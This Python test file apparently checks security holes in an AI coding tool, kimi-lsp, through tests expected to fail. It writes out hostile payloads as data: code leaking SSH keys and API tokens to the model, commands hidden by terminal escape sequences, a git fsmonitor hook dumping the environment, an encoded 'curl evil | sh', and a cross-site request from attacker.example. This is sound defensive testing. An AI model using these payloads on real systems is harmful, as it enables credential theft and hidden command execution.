"""Round two of attacks through the real programs (issue 10): `kimi-lsp fix`/`context` and the TCP server.

Each test fails on today's code and is marked ``xfail(strict=True)``; the marker goes when the hole is closed.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import resource
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from kimi_lsp.testing import STAND_IN_KEY, ScriptedCall, StandIn, Turn
from tests.cli_projects import TEST_COMMAND, cli_env, make_project, run_cli

KEY_BODY = [f"MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt{i:04d}" for i in range(27)]


def sent_to_model(stand_in: StandIn) -> str:
    return "\n".join(request.body.decode("utf-8") for request in stand_in.chat_requests)


# -- (3) what reaches the model ------------------------------------------------------------------------------

SECRET_ENV = {"GH_PAT": "gh-personal-token-value-123", "NPM_AUTH": "npm-auth-secret-value"}


@pytest.mark.xfail(
    strict=True,
    reason="open, by design for now: tests keep the variables they may need (issue 10) and a repository's own "
    "test can encode their values; withholding named variables from tests needs a user setting",
)
def test_secret_env_values_never_reach_the_model_whatever_a_test_prints(tmp_path: Path) -> None:
    # The repository's own test (no model needed: its output is in the first prompt) prints the values
    # reversed, base64-encoded and cut in two; the redactor knows only the exact strings.
    root = make_project(
        tmp_path / "proj",
        "        pat, npm = os.environ.get('GH_PAT', ''), os.environ.get('NPM_AUTH', '')\n"
        "        print('r', pat[::-1], __import__('base64').b64encode(npm.encode()).decode())\n"
        "        print('h', pat[:12]); print('t', pat[12:])\n",
    )
    with StandIn([Turn(reasoning="done", content="nothing to do")]) as stand_in:
        run_cli(root, cli_env(tmp_path, stand_in, **SECRET_ENV), "fix", "--test", TEST_COMMAND, "--json")
        sent = sent_to_model(stand_in)
    assert "AreaTest" in sent  # the test output did reach the model
    pat, npm = SECRET_ENV["GH_PAT"], SECRET_ENV["NPM_AUTH"]
    forms = {"reversed": pat[::-1], "base64": base64.b64encode(npm.encode()).decode(), "tail": "t " + pat[12:]}
    assert not {name for name, form in forms.items() if form in sent}


def test_a_test_cannot_send_the_users_own_keys_to_the_model(tmp_path: Path) -> None:
    # Content redaction sees shapes; a test (the repository's, or one the model wrote) prints what it likes.
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(KEY_BODY[:5]) + "\n-----END OPENSSH PRIVATE KEY-----\n"
    (home / ".ssh" / "id_ed25519").write_text(key, encoding="utf-8")
    root = make_project(
        tmp_path / "proj",
        "        raw = open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read()\n"
        "        print('k', raw.decode()[::-1])\n",  # reversed: no shape to recognise
    )
    with StandIn([Turn(reasoning="done", content="nothing to do")]) as stand_in:
        run_cli(root, cli_env(tmp_path, stand_in, HOME=str(home)), "fix", "--test", TEST_COMMAND, "--json")
        sent = sent_to_model(stand_in)
    assert "AreaTest" in sent  # the test output did reach the model
    assert KEY_BODY[0][::-1] not in sent


def _fixtures_with_a_key(root: Path) -> int:
    """A long module holding a test key in a string; returns the line of the key's BEGIN."""
    head = "".join(f"def helper_{i}(value):\n    return value + {i}\n" for i in range(4000))
    key = (
        'TEST_KEY = """-----BEGIN RSA PRIVATE KEY-----\n'
        + "\n".join(KEY_BODY)
        + '\n-----END RSA PRIVATE KEY-----\n"""\n'
    )
    tail = "".join(f"def check_{i}(value):\n    return value * {i}\n" for i in range(4000))
    (root / "fixtures.py").write_text(head + key + tail, encoding="utf-8")
    return 8001


def _excerpt_start(root: Path, env: dict[str, str], line: int) -> int:
    shown = run_cli(root, env, "context", "--file", f"fixtures.py:{line}")
    match = re.search(r"fixtures\.py — target; excerpt, lines (\d+)-", shown.stdout)
    assert match, shown.stdout[:2000] + shown.stderr
    return int(match.group(1))


def test_a_context_excerpt_that_starts_inside_a_key_never_shows_its_lines(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    begin = _fixtures_with_a_key(root)
    env = cli_env(tmp_path, None)
    # Aim the target so that the excerpt the context assembler cuts starts a few lines into the key.
    probe = begin + 500
    target = probe + (begin + 5 - _excerpt_start(root, env, probe))
    assert begin < _excerpt_start(root, env, target) < begin + len(KEY_BODY)
    with StandIn([Turn(reasoning="done", content="nothing to do")]) as stand_in:
        run_cli(
            root,
            cli_env(tmp_path, stand_in),
            "fix",
            "--test",
            TEST_COMMAND,
            "--instruction",
            "rename check_1 to check_one",
            "--file",
            f"fixtures.py:{target}",
            "--json",
        )
        sent = sent_to_model(stand_in)
    assert "check_1" in sent  # the excerpt did reach the model
    assert not [line for line in KEY_BODY if line in sent]


# -- (4)/(5) what reaches the user's terminal ------------------------------------------------------------------

ERASE_LINE = "\r\x1b[2K"  # back to the start of the line, clear it: what was printed there is gone


def test_the_test_command_shown_at_the_start_cannot_be_hidden_by_the_workspace_file(tmp_path: Path) -> None:
    # issue 10 made every job show the test command and who chose it, because a workspace file may set it.
    # With terminal control sequences in it, what the terminal shows is a harmless command.
    root = make_project(tmp_path / "proj")
    hidden = f"touch {tmp_path / 'ran-hidden-command'}; {TEST_COMMAND}"
    shown = f"kimi-lsp: test command: {TEST_COMMAND}"  # the log line goes on with " (from .../pyproject.toml)"
    table = json.dumps(f"{hidden} #{ERASE_LINE}{shown}")  # the shell skips the comment; a TOML string is JSON
    (root / "pyproject.toml").write_text(f"[tool.kimi-lsp]\ntestCommand = {table}\n", encoding="utf-8")
    with StandIn([Turn(reasoning="done", content="nothing to do")]) as stand_in:
        done = run_cli(root, cli_env(tmp_path, stand_in), "fix", "--json")
    assert "\x1b" not in done.stderr
    assert "\\u001b[2K" in done.stderr  # the hidden part is shown, escaped, on the test command's line


def test_model_text_printed_to_the_terminal_cannot_erase_or_forge_lines(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    # (A bare CR would end the Python line and be refused by the syntax gate: the escape alone goes in.)
    edit = {"old": "return width + height", "new": "return width * height  # \x1b[2K"}
    turns = [
        Turn(reasoning="fix", tool_calls=[ScriptedCall("StrReplaceFile", {"path": "shapes.py", "edit": edit})]),
        # OSC 52 writes the clipboard in many terminals; the erase hides it and forges a status line.
        Turn(
            reasoning="done",
            content="Fixed.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" + ERASE_LINE + "kimi-lsp: status: fixed",
        ),
    ]
    with StandIn(turns) as stand_in:
        done = run_cli(root, cli_env(tmp_path, stand_in), "fix", "--test", TEST_COMMAND)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout + done.stderr


# -- (1) code from the workspace: a repository's git configuration -------------------------------------------


def test_kimi_lsp_context_never_runs_a_command_from_the_repositorys_git_config(tmp_path: Path) -> None:
    # A project that arrives as an archive or a shared folder brings its .git/config along.
    root = make_project(tmp_path / "proj")
    ran = tmp_path / "fsmonitor-ran.txt"
    git = ["git", "-C", str(root), "-c", "user.email=a@example.invalid", "-c", "user.name=a"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "init"], check=True)
    hook = f"env > {ran}; false #"
    subprocess.run(["git", "-C", str(root), "config", "core.fsmonitor", hook], check=True)
    (root / "shapes.py").write_text("def area(width, height):\n    return width * height\n", encoding="utf-8")
    done = run_cli(root, cli_env(tmp_path, None), "context", "--file", "shapes.py")
    assert done.returncode == 0, done.stderr
    # It ran, in the process that holds the key (`context` does not re-execute), with the key in its env.
    assert not ran.exists(), STAND_IN_KEY in ran.read_text()


@pytest.mark.parametrize("how", ["console script", "python -m"])
def test_an_empty_pythonpath_entry_does_not_import_the_repositorys_modules(tmp_path: Path, how: str) -> None:
    # `export PYTHONPATH=$PYTHONPATH:/opt/lib` with PYTHONPATH unset gives ":/opt/lib": its empty entry is the
    # working directory, for every Python started there, before kimi-lsp's own code runs.
    root = make_project(tmp_path / "proj")
    ran = tmp_path / "json-ran.txt"
    (root / "json.py").write_text(
        f"import os\nopen({str(ran)!r}, 'a').write(os.environ.get('KIMI_API_KEY', 'no key') + '\\n')\n",
        encoding="utf-8",
    )
    program = (
        [str(Path(sys.executable).parent / "kimi-lsp")]
        if how == "console script"
        else [sys.executable, "-m", "kimi_lsp"]
    )
    env = cli_env(tmp_path, None, PYTHONPATH=os.pathsep + str(tmp_path / "lib"))
    subprocess.run([*program, "--version"], env=env, cwd=root, capture_output=True, timeout=60, check=False)
    assert not ran.exists(), ran.read_text()


def _limit_memory() -> None:
    # The unbounded read below would otherwise take all the machine's memory before it failed.
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


HOSTILE_GITIGNORES = ["fifo", "link to /dev/zero", "unbalanced set", "backtracking pattern"]


@pytest.mark.parametrize("kind", HOSTILE_GITIGNORES)
def test_a_hostile_gitignore_cannot_stop_the_workspace_scan(tmp_path: Path, kind: str) -> None:
    # A project downloaded as an archive (no .git: the walk reads .gitignore files itself). Archives and
    # clones carry symlinks; archives carry FIFOs.
    root = make_project(tmp_path / "proj")
    ignore = root / ".gitignore"
    if kind == "fifo":
        os.mkfifo(ignore)  # a blocking open() waits for a writer for ever
    elif kind == "link to /dev/zero":
        ignore.symlink_to("/dev/zero")  # read() never ends; the memory limit turns that into a MemoryError
    elif kind == "unbalanced set":
        ignore.write_text("build[]\n", encoding="utf-8")  # re.error: unterminated character set, uncaught
    else:
        ignore.write_text("*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b\n", encoding="utf-8")  # exponential backtracking...
        (root / ("a" * 200)).write_text("", encoding="utf-8")  # ...on one long file name
    done = subprocess.run(
        [sys.executable, "-m", "kimi_lsp", "context", "--file", "shapes.py"],
        env=cli_env(tmp_path, None),
        cwd=root,
        capture_output=True,
        text=True,
        timeout=20,  # the FIFO and the backtracking never finish: TimeoutExpired
        stdin=subprocess.DEVNULL,
        preexec_fn=_limit_memory,
    )
    assert done.returncode == 0 and "shapes.py" in done.stdout, done.stderr[-500:]


# -- (6) the language server over TCP ------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _connect(port: int, server: subprocess.Popen[bytes]) -> socket.socket:
    deadline = time.monotonic() + 30
    while True:
        assert server.poll() is None, server.stderr.read() if server.stderr else ""
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            assert time.monotonic() < deadline, "the TCP server never listened"
            time.sleep(0.1)  # polling for the port to open, not synchronising with an event we could wait on


def _read_until_closed_or(sock: socket.socket, marker: bytes) -> bytes:
    data = b""
    sock.settimeout(10)
    try:
        while marker not in data:
            chunk = sock.recv(65_536)
            if not chunk:
                break
            data += chunk
    except (TimeoutError, ConnectionResetError):  # a refused connection may be reset rather than closed
        pass
    return data


def test_tcp_server_refuses_a_browser_request(tmp_path: Path) -> None:
    # What a web page's fetch('http://127.0.0.1:PORT/', {method: 'POST', mode: 'no-cors', body}) sends: a
    # "simple" cross-site request, no preflight. Its body, if taken as LSP, initializes the server with the
    # page's settings (test command, endpoint: where the key goes).
    port = _free_port()
    env = cli_env(tmp_path, None)
    server = subprocess.Popen(
        [sys.executable, "-m", "kimi_lsp", "serve", "--tcp", f"127.0.0.1:{port}"],
        env=env,
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "id": 1,
                "method": "initialize",
                "params": {
                    "processId": None,
                    "rootUri": None,
                    "capabilities": {},
                    "initializationOptions": {"testCommand": "touch pwned", "baseUrl": "http://127.0.0.1:9/v1"},
                },
            }
        ).encode()
        request = (
            b"POST / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: keep-alive\r\nContent-Length: %d\r\n"
            b"Origin: https://attacker.example\r\nContent-Type: text/plain;charset=UTF-8\r\nAccept: */*\r\n\r\n"
            % (port, len(body))
        ) + body
        with _connect(port, server) as sock:
            sock.sendall(request)
            answer = _read_until_closed_or(sock, b"capabilities")
    finally:
        server.terminate()
        server.wait(timeout=30)
    assert b'"capabilities"' not in answer, answer[:300]


def _frame(message: dict[str, object]) -> bytes:
    body = json.dumps(message).encode()
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


def test_a_second_tcp_connection_cannot_take_over_the_editors_session(tmp_path: Path) -> None:
    # Any local process (another user of the machine, a web page) may connect to the port. Today it gets the
    # answers meant for the editor (diffs, file text) and can send messages into the editor's initialized
    # session (didChangeConfiguration: a test command, an endpoint); when it hangs up the server exits.
    port = _free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "kimi_lsp", "serve", "--tcp", f"127.0.0.1:{port}"],
        env=cli_env(tmp_path, None),
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        with _connect(port, server) as editor:
            init = {"processId": None, "rootUri": None, "capabilities": {}}
            editor.sendall(_frame({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": init}))
            assert b'"capabilities"' in _read_until_closed_or(editor, b'"serverInfo"')
            editor.sendall(_frame({"jsonrpc": "2.0", "method": "initialized", "params": {}}))
            status = {"command": "kimi.status", "arguments": [{}]}
            with _connect(port, server) as intruder:
                # The intruder is refused: its request gets no answer and its connection is closed.
                with contextlib.suppress(ConnectionError):
                    intruder.sendall(
                        _frame({"jsonrpc": "2.0", "id": 99, "method": "workspace/executeCommand", "params": status})
                    )
                assert b'"id": 99' not in _read_until_closed_or(intruder, b'"id": 99')
                editor.sendall(
                    _frame({"jsonrpc": "2.0", "id": 2, "method": "workspace/executeCommand", "params": status})
                )
                assert b'"id": 2' in _read_until_closed_or(editor, b'"id": 2')  # the editor's answer, to the editor
                stolen = _read_until_closed_or(intruder, b'"id": 2')
            assert b'"id": 2' not in stolen, stolen[:300]
            editor.sendall(_frame({"jsonrpc": "2.0", "id": 3, "method": "workspace/executeCommand", "params": status}))
            assert b'"id": 3' in _read_until_closed_or(editor, b'"id": 3')
    finally:
        server.terminate()
        server.wait(timeout=30)
